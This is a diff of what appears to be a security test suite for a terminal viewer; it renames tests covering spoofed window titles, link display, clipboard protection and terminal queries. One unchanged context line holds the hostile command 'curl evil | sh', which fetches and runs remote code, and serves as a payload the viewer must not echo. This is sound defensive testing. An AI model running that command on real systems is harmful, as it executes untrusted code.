@@ -70,7 +70,7 @@ test("reordering characters of a title do not reach the page", async () => {
   await viewer.page.locator(".bar-title p").getByText("safegnp.exe").waitFor();
 });
 
-test("a link is shown whole before it opens, and only the web is linked to", async () => {
+test("a link is shown in full before it opens, and only web links exist", async () => {
   await using home = makeHome();
   const { viewer, print } = await inShell(home);
   await using _ = viewer;
@@ -117,7 +117,7 @@ test("the clipboard is neither written without a press of a button nor ever read
   expect(await viewer.screen()).not.toContain(Buffer.from("curl evil | sh").toString("base64"));
 });
 
-test("no question is answered by the page, also where it only looks", async () => {
+test("the page answers no query, even where it only watches", async () => {
   await using home = makeHome();
   // Says in hex what is typed at it; the host's own answers come at once and once.
   const program = join(home.root, "asks.sh");
